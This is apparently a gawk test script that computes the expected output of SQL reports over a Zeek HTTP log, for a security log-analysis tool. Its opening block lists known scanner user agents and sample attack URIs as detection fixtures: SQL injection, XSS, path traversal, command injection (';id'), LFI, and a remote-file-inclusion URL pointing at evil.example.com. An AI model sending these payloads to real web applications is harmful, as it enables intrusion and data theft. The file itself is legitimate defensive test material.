# The right answers of every sql/NN*.sql report for a Zeek http.log, computed
# here in gawk, independently of SQLite and of the extension:
#   LC_ALL=C gawk -v out=DIR -f tests/reports/expect.awk tests/reports/http.log
# writes DIR/NAME.expected for each report as the sqlite3 shell prints it with
# `.headers on`, `.mode list` (separator |) and `.nullvalue -`, in the
# reports' formatted (non-raw) form; DIR/summary.expected is triage.sql's
# summary line (with VERSION standing for zeeklog_version()), and
# DIR/01_status_codes.csv the raw CSV of report 01.
# Times: UTC, or with -v tz=NAME (and TZ=NAME in the environment) the local
# clock of that zone, as gawk's strftime() and mktime() give it.
#
# Scanner names and attack classes are not recomputed from the extension's
# signatures: the test log uses a known set of user agents and attack URIs,
# whose names and classes are listed by hand below.
BEGIN {
  FS = "\t"
  scanner["DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"] = "DirBuster"
  scanner["Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)"] = "Nmap"
  scanner["Mozilla/5.0 SF/2.03b"] = "Skipfish"
  scanner["Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:000001)"] = "Nikto"
  scanner["sqlmap/1.0-dev (http://sqlmap.org)"] = "sqlmap"
  attack["/index.php?id=1' OR '1'='1"] = "sqli"
  attack["/index.php?id=1 UNION SELECT username,password FROM users--"] = "sqli"
  attack["/search.php?q=<script>alert(1)</script>"] = "xss"
  attack["/static/../../../../var/www/secret.conf"] = "traversal"
  # As the log has it (Zeek's escapes), which is also how 07b shows it.
  attack["/files/..\\xc0\\xaf..\\xc0\\xafsecret.txt"] = "traversal"
  attack["/index.php?page=http://evil.example.com/shell.txt"] = "rfi"
  attack["/cgi-bin/ping.cgi?host=127.0.0.1;id"] = "cmd_injection"
  attack["/index.php?file=php://filter/resource=index.php"] = "lfi"
  NUL = "\001"   # stands for SQL NULL in keys; sorts before any text
}

# --- helpers ----------------------------------------------------------------
function commas(n,    s, neg) {
  s = sprintf("%d", n); neg = ""
  if (s ~ /^-/) { neg = "-"; s = substr(s, 2) }
  while (s ~ /[0-9][0-9][0-9][0-9]/) sub(/[0-9][0-9][0-9]($|,)/, ",&", s)
  return neg s
}
function rpad(s, w) { return sprintf("%" w "s", s) }
function shown(v) { return v == NUL ? "-" : v }
# Cut to n characters, the last an ellipsis (the test data is ASCII).
function trunc(s, n) { return (s == NUL || length(s) <= n) ? s : substr(s, 1, n - 1) "…" }
# A time as the reports show it: UTC, or the zone's clock with tz set.
function utc(ts, fmt) { return strftime(fmt, int(ts), tz == "") }
# The zone's clock at ts, as epoch seconds (ts itself in UTC).
function clock(ts) { return tz == "" ? ts : mktime(strftime("%Y %m %d %H %M %S", ts, 0), 1) }
# Report 02's network column for an IPv4 address, from docs/addresses.md's table
# of private ranges (the test log has IPv4 sources only): "internal" or "external".
function network(ip,    o, n) {
  n = split(ip, o, ".")
  if (n != 4) return "-"
  if (o[1] == 0 || o[1] == 10 || o[1] == 127) return "internal"
  if (o[1] == 100 && o[2] >= 64 && o[2] <= 127) return "internal"
  if (o[1] == 169 && o[2] == 254) return "internal"
  if (o[1] == 172 && o[2] >= 16 && o[2] <= 31) return "internal"
  if (o[1] == 192 && o[2] == 168) return "internal"
  if (ip == "255.255.255.255") return "internal"
  return "external"
}
function max(a, b) { return a > b ? a : b }
function min(a, b) { return a < b ? a : b }
# floor(a / b) * b for any sign of a (b > 0)
function floor_to(a, b) { return a - ((a % b) + b) % b }
# The most frequent value in cnt[] (keys "group SUBSEP value"), ties: the
# smallest; by[] numeric when num.
function mode_of(g, cnt, num,    k, p, best, bn, v) {
  best = NUL; bn = 0
  for (k in cnt) {
    split(k, p, SUBSEP)
    if (p[1] != g) continue
    v = p[2]
    if (cnt[k] > bn || (cnt[k] == bn && (num ? v + 0 < best + 0 : v < best))) { best = v; bn = cnt[k] }
  }
  return best
}
# A sort key: count descending, then text ascending.
function desc_key(n, text) { return sprintf("%015d", 1e14 - n) SUBSEP text }
# Sorts the keys of arr into idx[1..n]; returns n.
function sorted_keys(arr, idx,    n, k) {
  n = 0
  for (k in arr) idx[++n] = k
  asort(idx)
  return n
}
# The widest of the header and the values v[1..n].
function width(hdr, v, n,    w, i) {
  w = length(hdr)
  for (i = 1; i <= n; i++) if (length(v[i]) > w) w = length(v[i])
  return w
}
# A report's header line waits for its first row: the shell prints nothing
# at all for an empty result.
function header(name, line) { pending[name] = line; printf "" > (out "/" name ".expected") }
function emit(name, line) {
  if (name in pending) { print pending[name] > (out "/" name ".expected"); delete pending[name] }
  print line > (out "/" name ".expected")
}

# --- read -------------------------------------------------------------------
/^#/ { next }
NF != 27 { next }
{
  total++
  ts = $1 + 0; ip = $3; uri = ($10 == "-" ? NUL : $10); ua = ($12 == "-" ? NUL : $12)
  code = ($15 == "-" ? NUL : $15 + 0); msg = ($16 == "-" ? NUL : $16)
  if (total == 1 || ts < first_ts) first_ts = ts
  if (total == 1 || ts > last_ts) last_ts = ts

  code_n[code]++; if (msg != NUL) code_msg[code, msg]++
  ip_n[ip]++
  if (!(ip in ip_first) || ts < ip_first[ip]) ip_first[ip] = ts
  if (!(ip in ip_last) || ts > ip_last[ip]) ip_last[ip] = ts
  if (ua != NUL) ip_ua[ip, ua]++
  minute = int(ts / 60) * 60
  minute_n[minute]++; if (code != NUL) minute_code[minute, code]++
  ua_n[ua]++; if (!((ua, ip) in ua_ip)) { ua_ip[ua, ip] = 1; ua_ips[ua]++ }
  s = (ua != NUL && ua in scanner) ? scanner[ua] : NUL
  sc_n[s]++; sc_ip[s, ip]++
  if (!((s, ua) in sc_ua_seen) && ua != NUL) { sc_ua_seen[s, ua] = 1; sc_uas[s]++ }
  if (code == 403 || code == 404) { err[ip]++; if (code == 403) e403[ip]++; else e404[ip]++ }
  min_n[ip, minute]++
  if (uri != NUL && uri in attack) {
    c = attack[uri]
    cl_n[c]++; cl_ip[c, ip]++; cl_uri[c, uri]++; cl_uri_ip[c, uri, ip]++
  }
}

END {
  # 01 status codes
  for (c in code_n) key[desc_key(code_n[c], c == NUL ? NUL : sprintf("%09d", c))] = c
  n = sorted_keys(key, idx)
  for (i = 1; i <= n; i++) { c = key[idx[i]]; rq[i] = commas(code_n[c]) }
  w = width("requests", rq, n)
  header("01_status_codes", "status_code|status_msg|requests|share")
  for (i = 1; i <= n; i++) {
    c = key[idx[i]]
    emit("01_status_codes", shown(c) "|" shown(mode_of(c, code_msg, 0)) "|" rpad(rq[i], w) "|" sprintf("%5.1f%%", 100 * code_n[c] / total))
    m = mode_of(c, code_msg, 0)
    # The shell quotes a CSV text field holding a space, comma or quote.
    if (m == NUL) m = ""; else if (m ~ /[ ,"]/) { gsub(/"/, "\"\"", m); m = "\"" m "\"" }
    csv = csv sprintf("%s,%s,%d,%.1f\n", c == NUL ? "" : c, m, code_n[c], 100 * code_n[c] / total)
  }
  printf "status_code,status_msg,requests,share\n%s", csv > (out "/01_status_codes.csv")
  delete key; delete idx; delete rq; delete si; delete top

  # 02 top source IPs
  for (ip in ip_n) key[desc_key(ip_n[ip], ip)] = ip
  n = sorted_keys(key, idx); if (n > 10) n = 10
  for (i = 1; i <= n; i++) { rq[i] = commas(ip_n[key[idx[i]]]); ips[i] = key[idx[i]] }
  w = width("requests", rq, n)
  # the user agent gets what 120 columns leave: 7 columns' borders (22),
  # the addresses, network (8), requests, share (6) and the two times (19 each)
  uw = max(20, 120 - 22 - width("src_ip", ips, n) - 8 - w - 6 - 19 - 19)
  header("02_top_source_ips", "src_ip|network|requests|share|first_seen|last_seen|top_user_agent")
  for (i = 1; i <= n; i++) {
    ip = key[idx[i]]
    emit("02_top_source_ips", ip "|" network(ip) "|" rpad(rq[i], w) "|" sprintf("%5.1f%%", 100 * ip_n[ip] / total) "|" \
         utc(ip_first[ip], "%Y-%m-%d %H:%M:%S") "|" utc(ip_last[ip], "%Y-%m-%d %H:%M:%S") "|" \
         shown(trunc(mode_of(ip, ip_ua, 0), uw)))
  }
  delete key; delete idx; delete rq; delete si; delete top

  # 03: requests per bucket of the zone's clock, every bucket from the first
  # to the last; the bucket is the first of an hour, 6 hours, a day, a week
  # (from Monday, 1970-01-05) with at most 100 of them
  lo = ""; hi = ""
  for (m in minute_n) {
    c = clock(m + 0); mclock[m] = c
    if (lo == "" || c < lo) lo = c
    if (hi == "" || c > hi) hi = c
  }
  if (lo != "") {
    split("3600 21600 86400 604800", secs, " "); split("1 hour|6 hours|1 day|1 week", wname, "|")
    for (k = 1; k <= 4; k++) {
      org = (k == 4) ? 345600 : 0
      first_b = floor_to(lo - org, secs[k]) + org; last_b = floor_to(hi - org, secs[k]) + org
      if ((last_b - first_b) / secs[k] < 100 || k == 4) break
    }
    W = secs[k]
    for (m in minute_n) {
      b = floor_to(mclock[m] - org, W) + org
      bucket_n[b] += minute_n[m]
    }
    for (kk in minute_code) { split(kk, p, SUBSEP); b = floor_to(mclock[p[1]] - org, W) + org; bucket_code[b, p[2]] += minute_code[kk] }
    maxh = 0
    for (b in bucket_n) if (bucket_n[b] > maxh) maxh = bucket_n[b]
    n = 0
    for (b = first_b; b <= last_b; b += W) rq[++n] = commas(b in bucket_n ? bucket_n[b] : 0)
    w = width("requests", rq, n)
  }
  header("03_hourly", "bucket|width|requests|modal_status|bar")
  i = 0
  if (lo != "") for (b = first_b; b <= last_b; b += W) {
    i++
    cnt = (b in bucket_n) ? bucket_n[b] : 0
    bar = ""
    if (cnt > 0) { bb = int(40 * cnt / maxh + 0.5); if (bb < 1) bb = 1; for (j = 0; j < bb; j++) bar = bar "#" }
    emit("03_hourly", strftime(W < 86400 ? "%Y-%m-%d %H:%M" : "%Y-%m-%d", b, 1) "|" wname[k] "|" rpad(rq[i], w) "|" \
         shown(cnt ? mode_of(b, bucket_code, 1) : NUL) "|" bar)
  }
  delete rq

  # 04a top user agents
  for (u in ua_n) key[desc_key(ua_n[u], u)] = u
  n = sorted_keys(key, idx); if (n > 10) n = 10
  for (i = 1; i <= n; i++) { rq[i] = commas(ua_n[key[idx[i]]]); si[i] = commas(ua_ips[key[idx[i]]]) }
  w = width("requests", rq, n); ws = width("src_ips", si, n)
  wsc = length("scanner")
  for (i = 1; i <= n; i++) { u = key[idx[i]]; if ((u in scanner) && length(scanner[u]) > wsc) wsc = length(scanner[u]) }
  # the user agent gets what 120 columns leave (5 columns' borders: 16), at most 60
  uw = max(20, min(60, 120 - 16 - wsc - w - 6 - ws))
  header("04a_user_agents", "user_agent|scanner|requests|share|src_ips")
  for (i = 1; i <= n; i++) {
    u = key[idx[i]]
    emit("04a_user_agents", shown(trunc(u, uw)) "|" shown((u in scanner) ? scanner[u] : NUL) "|" rpad(rq[i], w) "|" \
         sprintf("%5.1f%%", 100 * ua_n[u] / total) "|" rpad(si[i], ws))
  }
  delete key; delete idx; delete rq; delete si; delete top

  # 04b scanners (the non-scanner row last)
  for (s in sc_n) key[(s == NUL ? "1" : "0") SUBSEP desc_key(sc_n[s], s)] = s
  n = sorted_keys(key, idx)
  for (i = 1; i <= n; i++) {
    s = key[idx[i]]
    rq[i] = commas(sc_n[s]); su[i] = commas(sc_uas[s] + 0)
    top[i] = ""; topn = 0; nips = 0
    for (k in sc_ip) {
      split(k, p, SUBSEP); if (p[1] != s) continue
      nips++
      if (sc_ip[k] > topn || (sc_ip[k] == topn && p[2] < top[i])) { top[i] = p[2]; topn = sc_ip[k] }
    }
    si[i] = commas(nips)
  }
  w = width("requests", rq, n); wu = width("user_agents", su, n); ws = width("src_ips", si, n)
  header("04b_scanners", "scanner|requests|share|user_agents|src_ips|top_src_ip")
  for (i = 1; i <= n; i++) {
    s = key[idx[i]]
    emit("04b_scanners", shown(s) "|" rpad(rq[i], w) "|" sprintf("%5.1f%%", 100 * sc_n[s] / total) "|" \
         rpad(su[i], wu) "|" rpad(si[i], ws) "|" top[i])
  }
  delete key; delete idx; delete rq; delete si; delete top

  # 05 403/404 sources
  for (ip in err) key[desc_key(err[ip], ip)] = ip
  n = sorted_keys(key, idx); if (n > 10) n = 10
  for (i = 1; i <= n; i++) {
    ip = key[idx[i]]
    ce[i] = commas(err[ip]); c3[i] = commas(e403[ip] + 0); c4[i] = commas(e404[ip] + 0); rq[i] = commas(ip_n[ip])
  }
  we = width("403+404", ce, n); w3 = width("403", c3, n); w4 = width("404", c4, n); w = width("requests", rq, n)
  header("05_error_ips", "src_ip|403+404|403|404|requests|error_share")
  for (i = 1; i <= n; i++) {
    ip = key[idx[i]]
    emit("05_error_ips", ip "|" rpad(ce[i], we) "|" rpad(c3[i], w3) "|" rpad(c4[i], w4) "|" rpad(rq[i], w) "|" \
         sprintf("%10.1f%%", 100 * err[ip] / ip_n[ip]))
  }
  delete key; delete idx; delete rq; delete si; delete top

  # 06 rate spikes: per IP, its minutes' counts
  for (k in min_n) {
    split(k, p, SUBSEP); ip = p[1]
    nm[ip]++; counts[ip, nm[ip]] = min_n[k]
    if (min_n[k] > peak[ip]) { peak[ip] = min_n[k]; busiest[ip] = p[2] + 0; atp[ip] = 1 }
    else if (min_n[k] == peak[ip]) { atp[ip]++; if (p[2] + 0 < busiest[ip]) busiest[ip] = p[2] + 0 }
  }
  for (ip in nm) {
    delete v
    for (j = 1; j <= nm[ip]; j++) v[j] = counts[ip, j]
    asort(v)
    m = nm[ip]
    median[ip] = (m % 2) ? v[(m + 1) / 2] : (v[m / 2] + v[m / 2 + 1]) / 2
    key[desc_key(peak[ip], ip)] = ip
  }
  n = sorted_keys(key, idx); if (n > 10) n = 10
  for (i = 1; i <= n; i++) {
    ip = key[idx[i]]; pk[i] = commas(peak[ip]); rq[i] = commas(ip_n[ip]); ap[i] = commas(atp[ip]); am[i] = commas(nm[ip])
  }
  wp = width("minute_reqs", pk, n); w = width("total", rq, n); wa = width("at_peak", ap, n); wm = width("minutes", am, n)
  header("06_rate_spikes", "src_ip|busiest_minute|at_peak|minute_reqs|peak_rps|median_rps|ratio|minutes|total")
  for (i = 1; i <= n; i++) {
    ip = key[idx[i]]
    emit("06_rate_spikes", ip "|" utc(busiest[ip], "%Y-%m-%d %H:%M") "|" rpad(ap[i], wa) "|" rpad(pk[i], wp) "|" \
         sprintf("%8.2f", peak[ip] / 60) "|" sprintf("%10.3f", median[ip] / 60) "|" \
         sprintf("%6.1fx", peak[ip] / median[ip]) "|" rpad(am[i], wm) "|" rpad(rq[i], w))
  }
  delete key; delete idx; delete rq; delete si; delete top

  # 07a attack classes
  for (c in cl_n) key[desc_key(cl_n[c], c)] = c
  n = sorted_keys(key, idx)
  for (i = 1; i <= n; i++) {
    c = key[idx[i]]
    rq[i] = commas(cl_n[c])
    nu = 0; for (k in cl_uri) { split(k, p, SUBSEP); if (p[1] == c) nu++ }
    top[i] = ""; topn = 0; nips = 0
    for (k in cl_ip) {
      split(k, p, SUBSEP); if (p[1] != c) continue
      nips++
      if (cl_ip[k] > topn || (cl_ip[k] == topn && p[2] < top[i])) { top[i] = p[2]; topn = cl_ip[k] }
    }
    nus[i] = commas(nu); si[i] = commas(nips); tn[i] = commas(topn)
  }
  w = width("requests", rq, n); wu = width("uris", nus, n); ws = width("src_ips", si, n); wt = width("top_src_requests", tn, n)
  header("07a_attack_classes", "attack_class|requests|uris|src_ips|top_src_ip|top_src_requests")
  for (i = 1; i <= n; i++)
    emit("07a_attack_classes", key[idx[i]] "|" rpad(rq[i], w) "|" rpad(nus[i], wu) "|" rpad(si[i], ws) "|" top[i] "|" rpad(tn[i], wt))

  # 07b: the classes in the same order, each with its top 3 URIs
  header("07b_attack_examples", "attack_class|uri|requests|src_ips")
  for (i = 1; i <= n; i++) {
    c = key[idx[i]]
    delete ukey; delete uidx
    for (k in cl_uri) { split(k, p, SUBSEP); if (p[1] == c) ukey[desc_key(cl_uri[k], p[2])] = p[2] }
    nu = sorted_keys(ukey, uidx); if (nu > 3) nu = 3
    for (j = 1; j <= nu; j++) {
      u = ukey[uidx[j]]
      delete ikey; delete iidx
      for (k in cl_uri_ip) { split(k, p, SUBSEP); if (p[1] == c && p[2] == u) ikey[desc_key(cl_uri_ip[k], p[3])] = p[3] }
      ni = sorted_keys(ikey, iidx)
      list = ""
      for (q = 1; q <= ni && q <= 3; q++) list = list (q > 1 ? ", " : "") ikey[iidx[q]]
      if (ni > 3) list = list " +" (ni - 3)
      nr++; ec[nr] = c; eu[nr] = u; er[nr] = commas(cl_uri[c, u]); el[nr] = list
    }
  }
  w = width("requests", er, nr)
  # the URI gets what 120 columns leave (4 columns' borders: 13), at least 30
  uw = max(30, 120 - 13 - width("attack_class", ec, nr) - w - width("src_ips", el, nr))
  for (i = 1; i <= nr; i++) emit("07b_attack_examples", ec[i] "|" trunc(eu[i], uw) "|" rpad(er[i], w) "|" el[i])

  # triage.sql's summary (skipped_lines is checked by the test itself)
  nips = 0; for (ip in ip_n) nips++
  printf "zeeklog|requests|skipped_lines|source_ips|first_request|last_request|time_zone\nVERSION|%s|SKIPPED|%s|%s|%s|%s\n", \
    commas(total), commas(nips), total ? utc(first_ts, "%Y-%m-%d %H:%M:%S") : "-", total ? utc(last_ts, "%Y-%m-%d %H:%M:%S") : "-", \
    tz == "" ? "UTC" : tz > (out "/summary.expected")
}
